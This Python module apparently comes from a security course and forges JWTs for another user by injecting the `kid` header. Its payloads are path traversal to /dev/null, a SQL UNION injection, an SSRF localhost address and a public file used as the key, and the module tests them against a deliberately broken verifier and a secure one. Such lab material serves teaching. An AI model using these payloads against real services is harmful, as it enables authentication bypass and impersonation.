"""Steals: anybody's name, with the name of a key that is not one.

`kid` says which key checks the token, and it is read before anything is proven. If the server
uses it as a path, it can name any file, and Mallory knows what is in some of them. It may also
be meant as part of a query, or as an address to fetch.
"""

from pathlib import Path
from types import ModuleType

import jwt
from identity import jwt_broken, jwt_tokens

from attacks.finding import Finding
from attacks.tokens import alice, tried

AGAINST = "identity"
CASE = ""
OPEN, SECURE = jwt_broken, jwt_tokens

PUBLIC = Path(__file__)  # this file is in everybody's copy of the course
SECRET = b"chosen by Mallory, for her to sign"
# What kind of `kid` it is, its value, and the secret that a verifier would find there.
KIDS = [
    # HMAC pads a short key with zeros, so these are the same as the empty key.
    ("an empty file", "../../../../../../../../../../dev/null", b"\0" * 64),
    ("part of a query", f"' UNION SELECT '{SECRET.decode()}' --", SECRET),
    ("an address", "http://127.0.0.1:9/key", SECRET),
    ("another file", str(PUBLIC), PUBLIC.read_bytes()),
]


async def attack(verifier: ModuleType) -> Finding:
    findings = [
        tried(verifier, jwt.encode(alice(), secret, "HS256", {"kid": kid}), f"kid is {what}")
        for what, kid, secret in KIDS
    ]
    return next((finding for finding in findings if finding.succeeded), findings[-1])
